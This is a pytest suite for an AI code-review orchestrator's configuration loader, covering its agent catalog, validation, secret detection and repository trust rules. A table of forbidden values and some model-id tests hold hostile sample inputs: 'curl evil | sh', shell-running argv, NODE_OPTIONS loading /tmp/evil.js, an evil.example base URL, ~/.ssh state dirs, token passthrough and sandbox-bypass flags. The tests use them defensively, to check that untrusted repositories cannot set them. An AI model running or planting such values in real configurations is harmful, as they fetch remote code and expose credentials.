"""Settings, the built-in agent catalog, the configuration layers (operator file, trusted and untrusted
repository files), validation, trust matching, PR URL validation, the trunk-side read of jury.toml and
jury resolution."""

from __future__ import annotations

import os
import re
import subprocess
import tomllib
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from orchestrator.agent_keys import _VALUE_CHECKS, ALLOWED_AGENT_KEYS, SECRET_NAME_RE
from orchestrator.config import (
    JuryDefaults,
    RepoConfig,
    RepoFile,
    config_dir,
    load_catalog,
    load_config,
    load_settings,
    operator_config_file,
    resolve_jury,
)
from orchestrator.errors import ConfigError, TargetError
from orchestrator.spec import AgentSpec, Limits, SandboxSettings
from orchestrator.target import checkout_config, parse_pr_url, repo_config, resolve_local
from orchestrator.trust import UNTRUSTED_AGENT_KEYS, is_trusted, normalise_trust_entry, parse_trust

BUILT_IN = (
    "codex",
    "claude",
    "gemini",
    "opencode",
    "qwen",
    "copilot",
    "cursor",
    "amp",
    "grok",
    "kimi",
    "droid",
)


SOURCE = "/src/app/jury.toml (at merge-base 0123456789ab)"


def trusted(text: str) -> RepoFile:
    """A trusted repository's trunk-side ``jury.toml`` (a local path given on the command line)."""
    return RepoFile(source=SOURCE, identity="/src/app", local=True, text=text)


def untrusted(text: str, identity: str = "github.com/acme/app") -> RepoFile:
    """A PR URL's repository: not trusted unless the operator lists it."""
    return RepoFile(source=SOURCE, identity=identity, local=False, text=text)


# --- the built-in catalog ---------------------------------------------------------------------------


def test_catalog_holds_every_built_in_agent() -> None:
    catalog = load_catalog()
    assert set(BUILT_IN) <= set(catalog)
    files = sorted(p.stem for p in (config_dir() / "agents").glob("*.toml"))
    assert files == sorted(catalog)


@pytest.mark.parametrize("name", BUILT_IN)
def test_catalog_entry_is_usable(name: str) -> None:
    spec = load_catalog()[name]
    assert spec.name == name
    for argv in (spec.argv, spec.judge_argv, spec.resume_argv):
        if argv is None:
            continue
        joined = " ".join(argv)
        assert "{prompt}" in joined or "{prompt_file}" in joined
        for arg in argv:
            assert "{model_args}" not in arg or arg == "{model_args}"
    if spec.resume_argv is not None:
        assert "{session}" in " ".join(spec.resume_argv)
    if spec.session_from is not None:
        assert re.compile(spec.session_from).groups == 1
    if spec.model_args:
        assert "{model}" in " ".join(spec.model_args)
    assert spec.install
    assert spec.expect_seconds > 0
    assert not spec.env  # the catalog sets no environment; secrets come through env_pass


@pytest.mark.parametrize(
    ("name", "report", "expect_seconds"),
    [
        ("codex", "codex-json", 1200),
        ("claude", "stream-json", 900),
        ("opencode", "opencode-json", 600),
        ("qwen", "result-json", 600),
        ("droid", "result-json", 120),
        ("kimi", "stream-json", 600),
        ("gemini", "whole", 600),
    ],
)
def test_catalog_report_formats_and_times(name: str, report: str, expect_seconds: float) -> None:
    spec = load_catalog()[name]
    assert spec.report == report
    assert spec.expect_seconds == expect_seconds


def test_codex_and_claude_entries() -> None:
    catalog = load_catalog()
    codex, claude = catalog["codex"], catalog["claude"]
    assert codex.can_judge and claude.can_judge
    assert "read-only" in codex.argv and "workspace-write" in (codex.judge_argv or [])
    assert codex.model_args == ["-m", "{model}"]
    assert codex.session_from is not None
    found = re.search(codex.session_from, "session id: 0199-abc\n")
    assert found is not None and found.group(1) == "0199-abc"
    assert "OPENAI_API_KEY" in codex.env_pass
    assert claude.new_session and "--output-format" in claude.argv and "stream-json" in claude.argv
    assert "--verbose" in claude.argv and claude.report == "stream-json"  # tool calls seen: broken seats
    assert "plan" in claude.argv and "acceptEdits" in (claude.judge_argv or [])
    assert "ANTHROPIC_API_KEY" in claude.env_pass


def test_catalog_file_must_hold_its_own_agent(tmp_path: Path) -> None:
    (tmp_path / "foo.toml").write_text('[agents.bar]\nargv = ["bar", "{prompt}"]\n', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"foo\.toml: must hold exactly one table, \[agents\.foo\]"):
        load_catalog(tmp_path)


def test_template_jury_toml_parses_and_its_example_is_valid(tmp_path: Path) -> None:
    text = (config_dir() / "jury.toml").read_text(encoding="utf-8")
    assert tomllib.loads(text) == {}
    example = "\n".join(line[2:] for line in text.splitlines() if line.startswith("# "))
    repo = trusted(example)
    cfg = load_config(repo)
    assert cfg.jury == JuryDefaults(reviewers=["codex", "claude"], judge="codex", rounds=10)
    assert cfg.agents["codex"].model and cfg.agents["mycli"].can_judge


# --- merging ----------------------------------------------------------------------------------------


def test_defaults_without_repo_file(tmp_path: Path) -> None:
    cfg = load_config(None)
    assert cfg.jury == JuryDefaults()
    assert cfg.agents == load_catalog()
    assert all(Path(p).parent.name == "agents" for p in cfg.source)
    assert resolve_jury(cfg, None, None, None) == (["codex", "claude"], "codex", 10)


def test_override_is_key_by_key(tmp_path: Path) -> None:
    repo = trusted('[agents.codex]\nmodel = "gpt-5-codex"\n')
    cfg = load_config(repo)
    built_in = load_catalog()["codex"]
    codex = cfg.agents["codex"]
    assert codex.model == "gpt-5-codex"
    assert codex.argv == built_in.argv
    assert codex.judge_argv == built_in.judge_argv
    assert codex.model_args == built_in.model_args
    assert codex.env_pass == built_in.env_pass
    assert cfg.source[-1] == SOURCE


def test_added_agent_gets_spec_defaults(tmp_path: Path) -> None:
    repo = trusted(
        '[agents.mine]\nargv = ["mine", "{model_args}", "{prompt}"]\nenv = { MINE_COLOR = "0" }\n'
        '[jury]\nreviewers = ["mine"]\n',
    )
    cfg = load_config(repo)
    mine = cfg.agents["mine"]
    assert mine == AgentSpec(name="mine", argv=["mine", "{model_args}", "{prompt}"], env={"MINE_COLOR": "0"})
    assert not mine.can_judge
    assert resolve_jury(cfg, None, None, None) == (["mine"], "codex", 10)


def test_config_file_overrides_repo_file(tmp_path: Path) -> None:
    repo = trusted('[jury]\nreviewers = ["gemini"]\nrounds = 3\n[agents.codex]\nmodel = "a"\n')
    extra = tmp_path / "extra.toml"
    extra.write_text('[jury]\njudge = "claude"\n[agents.codex]\nexpect_seconds = 50\n', encoding="utf-8")
    cfg = load_config(repo, extra)
    assert cfg.jury == JuryDefaults(reviewers=["gemini"], judge="claude", rounds=3)
    assert cfg.agents["codex"].model == "a" and cfg.agents["codex"].expect_seconds == 50
    assert cfg.source[-2:] == [SOURCE, str(extra)]


def test_agent_added_and_judged_in_one_file(tmp_path: Path) -> None:
    repo = trusted(
        '[jury]\njudge = "mine"\n'
        '[agents.mine]\nargv = ["m", "{prompt}"]\njudge_argv = ["m", "-w", "{prompt}"]\n',
    )
    assert load_config(repo).jury.judge == "mine"


def test_operator_agents_exist_before_the_repository_chooses_them(tmp_path: Path) -> None:
    operator = tmp_path / "config.toml"
    operator.write_text('[agents.mine]\nargv = ["m", "{prompt}"]\njudge_argv = ["m", "-w", "{prompt}"]\n')
    repo = untrusted('[jury]\nreviewers = ["mine"]\njudge = "mine"\n[agents.mine]\nmodel = "acme/x"\n')
    cfg = load_config(repo, operator)
    assert cfg.jury == JuryDefaults(reviewers=["mine"], judge="mine")
    assert cfg.agents["mine"].model == "acme/x" and cfg.agents["mine"].argv == ["m", "{prompt}"]


# --- validation errors ------------------------------------------------------------------------------

CMD = '["x", "{prompt}"]'


@pytest.mark.parametrize(
    ("text", "where", "expected"),
    [
        (f"[agents.foo]\nargvv = {CMD}\n", "agents.foo", "unknown key 'argvv' (allowed: argv, judge_argv"),
        ("[agents.foo]\nargv = []\n", "agents.foo.argv", "must be a non-empty list of strings"),
        ('[agents.foo]\nargv = "x {prompt}"\n', "agents.foo.argv", "must be a non-empty list of strings"),
        ('[agents.foo]\nargv = ["x", 1]\n', "agents.foo.argv", "must be a non-empty list of strings"),
        ('[agents.foo]\nmodel = "m"\n', "agents.foo", "new agent needs argv"),
        (
            f'[agents.foo]\nargv = {CMD}\nreport = "xml"\n',
            "agents.foo.report",
            "must be one of whole, tail, result-json, opencode-json, stream-json, codex-json",
        ),
        (
            f"[agents.foo]\nargv = {CMD}\nsession_from = '(unclosed'\n",
            "agents.foo.session_from",
            "invalid regex:",
        ),
        (
            f"[agents.foo]\nargv = {CMD}\nsession_from = 'id: \\S+'\n",
            "agents.foo.session_from",
            "exactly one capturing group",
        ),
        (
            f'[agents.foo]\nargv = {CMD}\nenv = {{ OPENAI_API_KEY = "sk-1" }}\n',
            "agents.foo.env.OPENAI_API_KEY",
            "looks like a secret; keep secrets out of jury.toml — set it in the worker's environment "
            "and list it in env_pass",
        ),
        (
            f'[agents.foo]\nargv = {CMD}\nenv = {{ gh_token = "x" }}\n',
            "agents.foo.env.gh_token",
            "looks like a secret",
        ),
        (f"[agents.foo]\nargv = {CMD}\nenv = {{ A = 1 }}\n", "agents.foo.env.A", "must be a string"),
        ('[agents.foo]\nargv = ["x", "--dir"]\n', "agents.foo.argv", "must pass the prompt"),
        ('[agents.foo]\nargv = ["x", "{promt}"]\n', "agents.foo.argv", "unknown placeholder '{promt}'"),
        (
            '[agents.foo]\nargv = ["x", "--m={model_args}", "{prompt}"]\n',
            "agents.foo.argv",
            "'{model_args}' must be a list element of its own",
        ),
        (
            f'[agents.foo]\nargv = {CMD}\nresume_argv = ["x", "{{prompt}}"]\n',
            "agents.foo.resume_argv",
            "must pass the session",
        ),
        (
            f'[agents.foo]\nargv = {CMD}\nmodel_args = "-m"\n',
            "agents.foo.model_args",
            "must be a list of strings",
        ),
        (f"[agents.foo]\nargv = {CMD}\nnew_session = 1\n", "agents.foo.new_session", "must be true or false"),
        (
            f"[agents.foo]\nargv = {CMD}\nexpect_seconds = 0\n",
            "agents.foo.expect_seconds",
            "must be a positive",
        ),
        (f'[agents.foo]\nargv = {CMD}\nenv_pass = ["A B"]\n', "agents.foo.env_pass", "not an environment"),
        ('[agents.codex]\nargv = ["codex"]\n', "agents.codex.argv", "must pass the prompt"),
        ("[agents.codex]\nreport = 3\n", "agents.codex.report", "must be one of"),
        ('[agents]\nfoo = "x"\n', "agents.foo", "must be a table"),
        ('[jury]\njudge = "x"\n', "[jury].judge", "unknown agent 'x' (known: "),
        ('[jury]\nreviewers = ["codex", "x"]\n', "[jury].reviewers", "unknown agent 'x'"),
        ("[jury]\nreviewers = []\n", "[jury].reviewers", "must be a non-empty list of strings"),
        ("[jury]\nrounds = 0\n", "[jury].rounds", "must be a whole number >= 1"),
        ("[jury]\nreviewer = []\n", "[jury]", "unknown key 'reviewer' (allowed: reviewers, judge, rounds)"),
        (
            f'[agents.foo]\nargv = {CMD}\n[jury]\njudge = "foo"\n',
            "[jury].judge",
            "agent 'foo' cannot judge: it has no judge_argv",
        ),
        ("[juri]\nrounds = 2\n", "unknown table [juri]", "(allowed: agents, jury, checks)"),
        ("[agents.foo\nargv = 1\n", "invalid TOML", "line 1"),
    ],
)
def test_repo_file_errors(tmp_path: Path, text: str, where: str, expected: str) -> None:
    repo = trusted(text)
    with pytest.raises(ConfigError) as info:
        load_config(repo)
    message = str(info.value)
    assert message.startswith(f"{SOURCE}: ")
    assert where in message
    assert expected in message


def test_errors_name_the_config_file(tmp_path: Path) -> None:
    extra = tmp_path / "team.toml"
    extra.write_text(f"[agents.foo]\nargv = {CMD}\nargvv = 1\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"team\.toml: agents\.foo: unknown key 'argvv'"):
        load_config(None, extra)


def test_every_allowed_key_is_an_agent_field() -> None:
    keys = {field.alias or name for name, field in AgentSpec.model_fields.items()}
    assert set(ALLOWED_AGENT_KEYS) == keys - {"name"}
    assert set(ALLOWED_AGENT_KEYS) == set(_VALUE_CHECKS)  # and every one has its check


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("OPENAI_API_KEY", True),
        ("GH_TOKEN", True),
        ("aws_secret_access_key", True),
        ("DB_PASSWORD", True),
        ("GOOGLE_APPLICATION_CREDENTIALS", True),
        ("BASIC_AUTH", True),
        ("MY_SESSION", True),
        ("COOKIE_JAR", True),
        ("PRIVATE_PEM", True),
        ("CODEX_HOME", False),
        ("OPENAI_BASE_URL", False),
        ("PATH", False),
    ],
)
def test_secret_name_re(name: str, secret: bool) -> None:
    assert bool(SECRET_NAME_RE.search(name)) is secret


# --- resolve_jury -----------------------------------------------------------------------------------


@pytest.fixture
def cfg() -> RepoConfig:
    agents = load_catalog()
    agents["plain"] = AgentSpec(name="plain", argv=["plain", "{prompt}"])
    return RepoConfig(
        agents=agents, jury=JuryDefaults(reviewers=["gemini"], judge="claude", rounds=4), source=[]
    )


def test_flags_override_jury_table(cfg: RepoConfig) -> None:
    assert resolve_jury(cfg, None, None, None) == (["gemini"], "claude", 4)
    assert resolve_jury(cfg, ["qwen", "plain"], "codex", 2) == (["qwen", "plain"], "codex", 2)


@pytest.mark.parametrize(
    ("reviewers", "judge", "rounds", "expected"),
    [
        (["nope"], None, None, "unknown agent 'nope' (known: "),
        (None, "nope", None, "unknown agent 'nope' (known: "),
        (None, "plain", None, "agent 'plain' cannot judge: it has no judge_argv"),
        ([], None, None, "no reviewers"),
        (["codex", "codex"], None, None, "listed more than once"),
        (None, None, 0, "rounds must be at least 1"),
    ],
)
def test_resolve_jury_errors(
    cfg: RepoConfig, reviewers: list[str] | None, judge: str | None, rounds: int | None, expected: str
) -> None:
    with pytest.raises(ConfigError) as info:
        resolve_jury(cfg, reviewers, judge, rounds)
    assert expected in str(info.value)


# --- settings ---------------------------------------------------------------------------------------


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    for name in list(os.environ):
        if name.upper().startswith("JURY_"):
            monkeypatch.delenv(name)
    return monkeypatch


def test_settings_defaults(clean_env: pytest.MonkeyPatch, tmp_path: Path) -> None:
    clean_env.setenv("HOME", str(tmp_path))
    settings = load_settings()
    assert settings.redis_url is None
    assert settings.dir == tmp_path / ".jury"
    assert settings.alive_every == 30.0
    assert settings.visibility_timeout == 6 * 3600
    assert settings.log_level == "INFO"
    assert settings.log_json is None
    assert settings.worker_concurrency == 4
    assert settings.kill_grace == 5.0


def test_settings_from_env(clean_env: pytest.MonkeyPatch, tmp_path: Path) -> None:
    clean_env.setenv("HOME", str(tmp_path))
    clean_env.setenv("JURY_DIR", "~/state")
    clean_env.setenv("JURY_REDIS_URL", "redis://localhost:6379/3")
    clean_env.setenv("JURY_LOG_LEVEL", "debug")
    clean_env.setenv("JURY_LOG_JSON", "true")
    clean_env.setenv("JURY_WORKER_CONCURRENCY", "2")
    settings = load_settings()
    assert settings.dir == tmp_path / "state"
    assert settings.redis_url == "redis://localhost:6379/3"
    assert settings.log_level == "DEBUG"
    assert settings.log_json is True
    assert settings.worker_concurrency == 2


def test_settings_log_json_auto(clean_env: pytest.MonkeyPatch) -> None:
    clean_env.setenv("JURY_LOG_JSON", "auto")
    assert load_settings().log_json is None


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("JURY_ALIVE_EVERY", "often"),
        ("JURY_ALIVE_EVERY", "0"),
        ("JURY_VISIBILITY_TIMEOUT", "1.5h"),
        ("JURY_LOG_LEVEL", "LOUD"),
        ("JURY_LOG_JSON", "maybe"),
        ("JURY_WORKER_CONCURRENCY", "0"),
        ("JURY_KILL_GRACE", "-1"),
    ],
)
def test_bad_setting_names_its_variable(clean_env: pytest.MonkeyPatch, name: str, value: str) -> None:
    clean_env.setenv(name, value)
    with pytest.raises(ConfigError) as info:
        load_settings()
    assert name in str(info.value)


# --- http and check agents, [checks] ----------------------------------------------------------------

HTTP = '[agents.h]\nkind = "http"\nbase_url = "http://127.0.0.1:9/v1/"\nmodel = "openai/gpt-5"\n'
CHECK = '[agents.lint]\nkind = "check"\ncommand = "ruff check --output-format concise ."\n'


def test_http_agent_from_toml(tmp_path: Path) -> None:
    repo = trusted(
        HTTP + 'api_key_env = "MY_KEY"\nfamily = "Acme"\nprice = { input = 1.25, output = 10 }\n'
        'fallback = ["openai/gpt-5-mini"]\nmax_rounds = 5\ntimeout = 30\n'
        '[jury]\nreviewers = ["h"]\njudge = "h"\n',
    )
    cfg = load_config(repo)
    h = cfg.agents["h"]
    assert h.kind == "http" and h.argv == []
    assert h.base_url == "http://127.0.0.1:9/v1"  # trailing slash dropped
    assert h.api_key_env == "MY_KEY"
    assert h.family == "acme"  # the explicit family wins over the vendor prefix
    assert h.price == {"input": 1.25, "output": 10.0}
    assert h.fallback == ["openai/gpt-5-mini"] and h.max_rounds == 5 and h.timeout == 30.0
    assert h.can_judge
    assert resolve_jury(cfg, None, None, None) == (["h"], "h", 10)


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:9/v1", "http://127.8.0.1/v1", "http://[::1]:8080/v1", "http://localhost:4000"],
)
def test_a_key_may_go_over_plain_http_to_this_machine(url: str) -> None:
    text = f'[agents.h]\nkind = "http"\nbase_url = "{url}"\nmodel = "m/x"\napi_key_env = "MY_KEY"\n'
    assert load_config(trusted(text)).agents["h"].base_url == url


@pytest.mark.parametrize("host", ["llm.internal:4000", "10.0.0.7", "[2001:db8::1]", "127.0.0.1.example.com"])
def test_a_key_is_not_sent_in_clear_to_another_host(host: str) -> None:
    """Plain http:// to another machine carries the Authorization header in clear: refused unless the
    operator says the network is theirs (insecure_http); without a key there is nothing to leak."""
    text = f'[agents.h]\nkind = "http"\nbase_url = "http://{host}/v1"\nmodel = "m/x"\n'
    assert load_config(trusted(text)).agents["h"].api_key_env is None  # no key: allowed
    keyed = text + 'api_key_env = "MY_KEY"\n'
    name = host.rsplit(":", 1)[0] if not host.startswith("[") else host[1:].split("]")[0]
    with pytest.raises(ConfigError, match=rf"agents\.h: base_url is plain http:// to {re.escape(name)}, so"):
        load_config(trusted(keyed))
    assert load_config(trusted(keyed + "insecure_http = true\n")).agents["h"].insecure_http is True
    https = keyed.replace("http://", "https://")
    assert load_config(trusted(https)).agents["h"].base_url == f"https://{host}/v1"


def test_insecure_http_is_a_boolean() -> None:
    with pytest.raises(ConfigError, match=r"agents\.h\.insecure_http: must be true or false"):
        load_config(trusted(HTTP + 'insecure_http = "yes"\n'))


def test_family_defaults_to_vendor_prefix_and_survives_the_wire() -> None:
    spec = AgentSpec(name="h", kind="http", base_url="http://x", model="anthropic/claude-x")
    assert spec.family == "anthropic"
    pinned = spec.model_copy(update={"family_override": "other"})
    assert pinned.family == "other"
    wire = pinned.model_dump(by_alias=True)
    assert wire["family"] == "other" and "family_override" not in wire
    assert AgentSpec.model_validate(wire) == pinned
    assert AgentSpec(name="c", argv=["c", "{prompt}"]).family is None


def test_override_changes_family_without_touching_the_rest(tmp_path: Path) -> None:
    repo = trusted(HTTP + 'family = "x"\n')
    extra = tmp_path / "extra.toml"
    extra.write_text('[agents.h]\nmodel = "google/gemini"\n', encoding="utf-8")
    cfg = load_config(repo, extra)
    assert cfg.agents["h"].family == "x" and cfg.agents["h"].model == "google/gemini"


def test_check_agent_from_toml(tmp_path: Path) -> None:
    repo = trusted(CHECK + 'parser = "ruff"\nscope = "all"\n')
    lint = load_config(repo).agents["lint"]
    assert lint.kind == "check" and lint.command == "ruff check --output-format concise ."
    assert lint.parser == "ruff" and lint.scope == "all"
    assert not lint.can_judge


def test_check_agent_defaults(tmp_path: Path) -> None:
    lint = load_config(trusted(CHECK)).agents["lint"]
    assert (lint.parser, lint.scope) == ("auto", "changed")


def test_checks_table_merges_key_by_key(tmp_path: Path) -> None:
    repo = trusted('[checks]\ntest = "pytest -q"\nlint = "ruff check ."\n')
    extra = tmp_path / "extra.toml"
    extra.write_text('[checks]\ntest = "python -m pytest -x"\n', encoding="utf-8")
    assert load_config(repo).checks == {"test": "pytest -q", "lint": "ruff check ."}
    assert load_config(repo, extra).checks == {"test": "python -m pytest -x", "lint": "ruff check ."}
    assert load_config(None).checks == {}


@pytest.mark.parametrize(
    ("text", "where", "expected"),
    [
        ('[agents.h]\nkind = "rpc"\n', "agents.h.kind", "must be one of cli, http, check"),
        ('[agents.h]\nkind = "http"\nmodel = "m"\n', "agents.h", "an http agent needs base_url"),
        ('[agents.h]\nkind = "http"\nbase_url = "http://x"\n', "agents.h", "an http agent needs model"),
        (
            '[agents.h]\nkind = "http"\nmodel = "m"\nbase_url = "ftp://x"\n',
            "agents.h.base_url",
            "must be an http:// or https:// URL",
        ),
        (
            '[agents.h]\nmodel = "m"\nbase_url = "https://u:sk-1@x"\n',
            "agents.h.base_url",
            "must not hold credentials",
        ),
        (HTTP + 'api_key_env = "sk-live-123"\n', "agents.h.api_key_env", "must be the NAME of"),
        (HTTP + "price = { input = 1 }\n", "agents.h.price", "needs both input and output"),
        (HTTP + "price = { input = 1, output = 2, x = 3 }\n", "agents.h.price", "unknown key 'x'"),
        (HTTP + "price = { input = -1, output = 2 }\n", "agents.h.price", "input: must be a number >= 0"),
        (HTTP + 'price = "cheap"\n', "agents.h.price", "must be a table"),
        (HTTP + "fallback = [1]\n", "agents.h.fallback", "must be a list of strings"),
        (HTTP + "max_rounds = 0\n", "agents.h.max_rounds", "must be a whole number >= 1"),
        (HTTP + "timeout = 0\n", "agents.h.timeout", "must be a positive number of seconds"),
        (HTTP + 'family = ""\n', "agents.h.family", "must be a non-empty string"),
        ("[agents.codex]\nusd_per_minute = -1\n", "agents.codex.usd_per_minute", "must be a number >= 0"),
        ('[agents.codex]\nusd_per_minute = "1"\n', "agents.codex.usd_per_minute", "must be a number >= 0"),
        ('[agents.c]\nkind = "check"\n', "agents.c", "a check agent needs command"),
        ('[agents.c]\nkind = "check"\ncommand = ""\n', "agents.c.command", "non-empty command string"),
        (
            '[agents.c]\nkind = "check"\ncommand = "ruff \'unclosed"\n',
            "agents.c.command",
            "cannot be split into words",
        ),
        (CHECK + 'parser = "eslint"\n', "agents.lint.parser", "must be one of auto, ruff, mypy"),
        (CHECK + 'scope = "diff"\n', "agents.lint.scope", "must be one of changed, all"),
        (
            CHECK + '[jury]\njudge = "lint"\n',
            "[jury].judge",
            "agent 'lint' cannot judge: it is a check agent",
        ),
        ('[agents.codex]\nkind = "check"\n', "agents.codex", "a check agent needs command"),
        ('[agents.h]\nkind = "cli"\n', "agents.h", "new agent needs argv"),
        ('[checks]\ntest = ""\n', "[checks].test", "must be a non-empty command string"),
        ('[checks]\ntest = ["pytest"]\n', "[checks].test", "must be a non-empty command string"),
        ('[checks]\ntest = "pytest \'x"\n', "[checks].test", "cannot be split into words"),
        ('[checks]\n"a b" = "pytest"\n', "[checks].a b", "bad check name"),
        ('checks = "pytest"\n', "[checks]", "must be a table"),
    ],
)
def test_http_check_and_checks_errors(tmp_path: Path, text: str, where: str, expected: str) -> None:
    repo = trusted(text)
    with pytest.raises(ConfigError) as info:
        load_config(repo)
    message = str(info.value)
    assert message.startswith(f"{SOURCE}: ")
    assert where in message
    assert expected in message


def test_cli_override_of_http_agent_needs_argv(tmp_path: Path) -> None:
    repo = trusted(HTTP)
    extra = tmp_path / "extra.toml"
    extra.write_text('[agents.h]\nkind = "cli"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"extra\.toml: agents\.h: new agent needs argv"):
        load_config(repo, extra)


def test_catalog_file_cannot_hold_checks(tmp_path: Path) -> None:
    (tmp_path / "foo.toml").write_text(
        '[agents.foo]\nargv = ["foo", "{prompt}"]\n[checks]\nt = "pytest"\n', encoding="utf-8"
    )
    with pytest.raises(ConfigError, match=r"must hold exactly one table, \[agents\.foo\]"):
        load_catalog(tmp_path)


# --- state_dirs -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", BUILT_IN)
def test_catalog_entries_name_their_state_dirs_under_home(name: str) -> None:
    dirs = load_catalog()[name].state_dirs
    assert dirs and all((d.startswith("~/.") and len(d) > 3) or d.startswith("$") for d in dirs)


def test_codex_keeps_codex_home() -> None:
    assert load_catalog()["codex"].state_dirs == ["~/.codex", "$CODEX_HOME"]  # wherever CODEX_HOME is


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('["~"]', "must start with '~/'"),
        ('["~/"]', "names HOME or / itself"),
        ('["/"]', "names HOME or / itself"),
        ('[".codex"]', "must start with '~/'"),
        ('["~root/.ssh"]', "must start with '~/'"),
        ('["~/.codex/../.ssh"]', "'.' or '..' segments"),
        ('["/home/me/./x"]', "'.' or '..' segments"),
        ('"~/.codex"', "must be a list of strings"),
        ("[1]", "must be a list of strings"),
    ],
)
def test_bad_state_dirs(value: str, expected: str) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(trusted(f"[agents.codex]\nstate_dirs = {value}\n"))
    assert f"{SOURCE}: agents.codex.state_dirs: " in str(info.value)
    assert expected in str(info.value)


def test_good_state_dirs() -> None:
    cfg = load_config(trusted('[agents.codex]\nstate_dirs = ["~/.codex", "/var/lib/codex"]\n'))
    assert cfg.agents["codex"].state_dirs == ["~/.codex", "/var/lib/codex"]


# --- what a repository may set ----------------------------------------------------------------------

# A valid value for every agent key a repository that is not trusted may NOT set on an existing agent.
FORBIDDEN_VALUES: dict[str, str] = {
    "argv": '["sh", "-c", "touch /tmp/pwned {prompt}"]',
    "judge_argv": '["sh", "-c", "touch /tmp/pwned {prompt}"]',
    "resume_argv": '["sh", "{session}", "{prompt}"]',
    "session_from": "'id: (\\S+)'",
    "new_session": "true",
    "report": '"tail"',
    "model_args": '["--model", "{model}", "--yolo"]',
    "env": '{ NODE_OPTIONS = "--require /tmp/evil.js" }',
    "env_pass": '["GITHUB_TOKEN"]',
    "secrets": '["PATH"]',  # harmless alone, but which values are hidden is the operator's call
    "install": '"curl evil | sh"',
    "usd_per_minute": "0",
    "kind": '"check"\ncommand = "touch /tmp/pwned"',  # a check agent needs its command
    "base_url": '"https://evil.example/v1"',
    "api_key_env": '"GITHUB_TOKEN"',
    "insecure_http": "true",
    "family": '"other"',
    "price": "{ input = 0, output = 0 }",
    "fallback": '["evil/model"]',
    "max_rounds": "99",
    "timeout": "9999",
    "command": '"touch /tmp/pwned"',
    "parser": '"none"',
    "scope": '"all"',
    "state_dirs": '["~/.ssh"]',
    "egress": '["127.0.0.1:6379"]',  # the fleet's Redis, from the reviewed code's own config
}


def test_the_forbidden_table_covers_every_key_but_model_and_expect_seconds() -> None:
    assert set(FORBIDDEN_VALUES) == set(ALLOWED_AGENT_KEYS) - set(UNTRUSTED_AGENT_KEYS)
    assert set(UNTRUSTED_AGENT_KEYS) == {"model", "expect_seconds"}


@pytest.mark.parametrize("key", sorted(FORBIDDEN_VALUES))
def test_an_untrusted_repository_cannot_set(key: str) -> None:
    text = f"[agents.codex]\n{key} = {FORBIDDEN_VALUES[key]}\n"
    assert load_config(trusted(text)).agents["codex"] != load_catalog()["codex"]  # it would take effect
    with capture_logs() as logs:
        cfg = load_config(untrusted(text))
    assert cfg.agents["codex"] == load_catalog()["codex"]
    assert cfg.repo_trusted is False
    assert f"{SOURCE}: agents.codex.{key}: ignored: an untrusted repository may set only" in "\n".join(
        cfg.notes
    )
    (warning,) = [e for e in logs if e["event"] == "config.ignored" and e["key"] == key]
    assert warning["log_level"] == "warning"
    assert (warning["file"], warning["agent"], warning["key"]) == (SOURCE, "codex", key)


def test_an_untrusted_repository_may_choose_the_jury_checks_model_and_time() -> None:
    cfg = load_config(
        untrusted(
            '[jury]\nreviewers = ["claude", "gemini"]\njudge = "claude"\nrounds = 3\n'
            '[checks]\ntest = "python -m pytest -q"\n'
            '[agents.codex]\nmodel = "openai/gpt-5"\nexpect_seconds = 60\n'
        )
    )
    assert cfg.jury == JuryDefaults(reviewers=["claude", "gemini"], judge="claude", rounds=3)
    assert cfg.checks == {"test": "python -m pytest -q"}
    codex = cfg.agents["codex"]
    assert (codex.model, codex.expect_seconds) == ("openai/gpt-5", 60)
    assert codex.argv == load_catalog()["codex"].argv
    assert cfg.notes == [f"{SOURCE}: read as untrusted (not listed in [trust] repos)"]


def test_an_untrusted_repository_cannot_add_an_agent() -> None:
    text = '[agents.evil]\nkind = "check"\ncommand = "touch /tmp/pwned"\n'
    with capture_logs() as logs:
        cfg = load_config(untrusted(text))
    assert "evil" not in cfg.agents
    assert any(
        n.startswith(f"{SOURCE}: agents.evil: ignored: an untrusted repository cannot add agents")
        and "command, kind" in n
        for n in cfg.notes
    )
    assert [(e["agent"], e["key"]) for e in logs if e["event"] == "config.ignored"] == [("evil", None)]
    assert "evil" in load_config(trusted(text)).agents


def test_a_jury_naming_an_ignored_agent_says_why() -> None:
    text = '[agents.evil]\nkind = "check"\ncommand = "x"\n[jury]\nreviewers = ["evil"]\n'
    with pytest.raises(ConfigError) as info:
        load_config(untrusted(text))
    message = str(info.value)
    assert message.startswith(f"{SOURCE}: [jury].reviewers: unknown agent 'evil'")
    assert "the repository is not trusted" in message


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("expect_seconds = -1", "agents.codex.expect_seconds: must be a positive"),
        ("expect_seconds = 1e9", "agents.codex.expect_seconds: must be at most 7200"),
        ('model = "--dangerously-bypass-approvals-and-sandbox"', "agents.codex.model: must be a model id"),
        ('model = "gpt-5 --yolo"', "agents.codex.model: must be a model id"),
        ('model = "x=y"', "agents.codex.model: must be a model id"),
        ('model = ""', "agents.codex.model: must be a model id"),
        ("model = 5", "agents.codex.model: must be a model id"),
    ],
)
def test_an_untrusted_value_it_may_set_is_still_checked(line: str, expected: str) -> None:
    with pytest.raises(ConfigError) as info:
        load_config(untrusted(f"[agents.codex]\n{line}\n"))
    assert expected in str(info.value)


@pytest.mark.parametrize(
    "model", ["openai/gpt-5", "gpt-5-codex", "qwen/qwen3-coder:free", "sonnet[1m]", "a@b+c.d_e"]
)
def test_model_ids_vendors_use(model: str) -> None:
    assert load_config(untrusted(f'[agents.codex]\nmodel = "{model}"\n')).agents["codex"].model == model


@pytest.mark.parametrize("repo", [trusted, untrusted])
def test_operator_only_tables_never_apply_from_a_repository(repo) -> None:
    text = '[trust]\nrepos = ["github.com/acme/app"]\n[sandbox]\nmode = "none"\n'
    cfg = load_config(repo(text))
    assert cfg.sandbox == SandboxSettings()
    assert f"{SOURCE}: trust: ignored: only the operator's configuration may set it" in cfg.notes
